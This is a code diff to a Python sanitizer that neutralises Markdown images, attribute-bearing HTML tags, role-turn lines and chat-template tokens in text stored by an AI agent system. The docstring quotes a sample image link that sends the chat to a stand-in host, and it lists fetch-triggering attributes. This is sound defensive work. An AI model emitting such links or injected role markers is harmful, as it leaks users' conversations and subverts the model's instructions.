@@ -26,10 +26,13 @@ renderer (episodes, lessons, reflection, the CLI) passes stored text through thi
   gets a backslash: ``\[SYSTEM_PROMPT]``;
 - nothing a Markdown renderer would load: every ``![`` (inline, reference-style and
   shortcut images alike) becomes ``!\[``, so a rendered reply or tool answer cannot
-  fetch ``![x](http://host/?q=<the chat>)``; a ``<`` opening a tag that loads a URL
-  (``<img``, ``<picture``, ``<source``, ``<video``, ``<audio``, ``<iframe``, ...,
-  followed by a space or ``/``) becomes ``&lt;``. Code keeps its meaning for a reader:
-  Rust's ``vec![1]`` shows as ``vec!\[1]``;
+  fetch ``![x](http://host/?q=<the chat>)``; a ``<`` opening a tag that carries an
+  attribute (``name=``: ``src``, ``href``, ``srcset``, ``onload``, ``style=url()``,
+  ``background``, ``http-equiv``, whatever the tag) becomes ``&lt;``, and so does one
+  opening a tag that loads a URL by itself (``<img``, ``<picture``, ``<source``,
+  ``<video``, ``<audio``, ``<iframe``, ..., followed by a space or ``/``). Code keeps
+  its meaning for a reader: Rust's ``vec![1]`` shows as ``vec!\[1]``, and
+  ``a<b and c == d`` as ``a&lt;b and c == d``;
 - a line of multi-line text that a model could read as a role turn (``System:``,
   ``Assistant:``, ``Human:``, ``User:``, ``AI:``, ``Developer:``, in ``**bold**`` too,
   and ``### Instruction:`` / ``Response:`` / ``Input:``), whatever leads it: any
@@ -165,7 +168,10 @@ _MARKER = re.compile(
     # Chat-template tokens by shape: a bar after "<" (<|im_start|>, and DeepSeek's, whose
     # fullwidth bars are folded), a snake_case name (<start_of_turn>), a sentinel (<s>).
     rf"|\s*\||/?\s*(?:[a-z]+_[a-z_]+|{_SENTINELS})\s*>"
-    rf"|(?:{_LOADING})(?:[\s/]|\Z)))"
+    rf"|(?:{_LOADING})(?:[\s/]|\Z)"
+    # Any tag with an attribute: src, href, srcset, onload, style=url(), background, ...
+    # each can make a renderer fetch, so the rule is the attribute, not a tag list.
+    r"|[a-z][\w:-]*\s[^<>]*=))"
     # Llama's [INST] and [/INST], and any [WORD]-style control marker ([SYSTEM_PROMPT],
     # [/TOOL_CALLS]) that does not index something (data[KEY] stays).
     r"|(?P<bracket>(?<!\\)\[(?=\s*/?\s*inst\s*\])"
